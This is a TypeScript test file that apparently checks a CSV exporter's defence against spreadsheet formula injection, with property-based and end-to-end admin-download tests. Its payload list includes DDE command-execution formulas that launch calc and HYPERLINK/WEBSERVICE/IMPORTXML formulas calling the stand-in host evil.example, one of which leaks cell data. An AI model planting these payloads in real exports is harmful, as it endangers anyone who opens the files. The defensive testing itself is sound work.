import { text } from 'node:stream/consumers';
import { stringify } from 'csv-stringify/sync';
import { afterAll, expect, test } from 'vitest';
import { newSeed } from '@consultflow/contract/testing/seed';
import * as fc from 'fast-check';
import { readCsv } from '../../test/support/read-csv.ts';
import { readTable } from '../../test/support/read-table.ts';
import { newWorld } from '../../test/support/world.ts';
import { csvOf } from './csv.ts';

const world = await newWorld();
afterAll(world.end);

const formulas = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example?x="&A1,"Open")',
  '=IMPORTXML("https://evil.example","//a")',
  '=WEBSERVICE("https://evil.example")',
  '=DDE("cmd";"/C calc";"x")',
  '=2+5+cmd|calc!A',
  '+1+1',
  "+cmd|' /C calc'!A0",
  '+90 232 555 0100',
  '-1+1',
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd|calc!A',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\r\n=1+1',
  '=1\r\n=2',
  '=1","=2',
  '="x"\n="y"',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
];

/** Texts that could end a cell or line and start another. */
const breakouts = [
  'x",=1+1',
  'x"\r\n=1+1',
  'x\r\n=1+1',
  'x\n"=1+1"',
  '",',
  '"',
  '""=1+1',
  "x',=1+1",
  '\\",=1',
];

const isFormula = (cell: string) => /^[=+\-@\t\r\n＝＋－＠]/.test(cell);
const bare = (cell = '') => cell.replaceAll("'", '');
const cellsOf = (csv: string) => readCsv(csv.replace(/^\ufeff/, '')).slice(1);

test('no cell starts a formula, and none ends early', async () => {
  const texts = [...formulas, ...breakouts];
  const columns = { One: (cell: string) => cell, Two: (cell: string) => cell };
  const csv = await text(csvOf(columns, async () => ({ rows: texts, next: undefined })));
  const records = cellsOf(csv);
  expect(records.flat().filter(isFormula)).toEqual([]);
  expect(records.map(([cell]) => bare(cell))).toEqual(texts.map(bare));
  expect(records.map((record) => record.length)).toEqual(texts.map(() => 2));
});

/** The possible separators of a program, and whether it supports quotes. */
const readings = [',', ';', '\t', ',;\t'].flatMap((separators) => [
  { separators, quotes: true },
  { separators, quotes: false },
]);
const couldBeFormula = (field: string) =>
  /^[\t\r\n]/.test(field) || /^[\s"\u200b]*[=+\-@＝＋－＠]/.test(field);
const formulasIn = (csv: string) =>
  readings.flatMap((reading) => readTable(csv, reading).flat().filter(couldBeFormula));

const signs = Array.from(',;\t\n\r"\' =+-@＝x1\u00a0\u200b');
const cells = fc
  .array(fc.oneof(fc.constantFrom(...signs), fc.constantFrom(...formulas, ...breakouts)), { maxLength: 6 })
  .map((parts) => parts.join(''));
const tables = fc.array(fc.tuple(cells, cells, cells), { minLength: 1, maxLength: 4 });
const written = (rows: [string, string, string][]) =>
  text(
    csvOf<[string, string, string]>(
      { One: ([one]) => one, Two: ([, two]) => two, Three: ([, , three]) => three },
      async () => ({ rows, next: undefined }),
    ),
  );

test('no field starts a formula, with any separator, with or without quotes', async () => {
  await fc.assert(
    fc.asyncProperty(tables, async (rows) => {
      expect(formulasIn(await written(rows))).toEqual([]);
    }),
    { seed: newSeed(), numRuns: 2_000 },
  );
});

test('a guard only for the start of cells is detected', () => {
  const rows = [
    ['x;=1+1', 'x\t=1+1', 'x\n=1+1'],
    ['x; =1+1', 'x;"=1+1', 'x\r\n=1+1'],
  ];
  expect(formulasIn(stringify(rows, { escape_formulas: true })).length).toBeGreaterThan(5);
});

test('a writer without the guard is detected with every formula', () => {
  const careless = stringify([['One'], ...formulas.map((cell) => [cell])], {
    record_delimiter: '\r\n',
    quoted: true,
  });
  expect(cellsOf(careless).flat().filter(isFormula)).toEqual(formulas);
});

test('no cell of an admin’s download starts a formula, whatever the names and questions', async () => {
  const admin = await world.admin();
  for (const formula of formulas.filter((one) => !/[\t\r\n]/.test(one))) {
    const client = await world.client({ name: formula, phone: formula });
    await world.call(client, 'POST', '/companies', { name: formula, address: formula });
    const { id } = await world.consultation(client, { topic: formula });
    const asked = { problem_details: `<p>${formula}</p>` };
    expect((await world.call(client, 'PUT', `/consultations/${id}`, asked)).statusCode).toBe(200);
    await world.call(client, 'PUT', `/consultations/${id}/status`, { status: 'canceled', reason: formula });
  }
  for (const [list, guarded] of [
    ['users', 3],
    ['consultations', 4],
  ] as const) {
    const records = cellsOf((await world.call(admin, 'GET', `/${list}/csv`)).body);
    expect(records.flat().filter(isFormula)).toEqual([]);
    const widest = Math.max(
      ...records.map((record) => record.filter((cell) => isFormula(cell.slice(1))).length),
    );
    expect(widest).toBeGreaterThanOrEqual(guarded);
  }
});
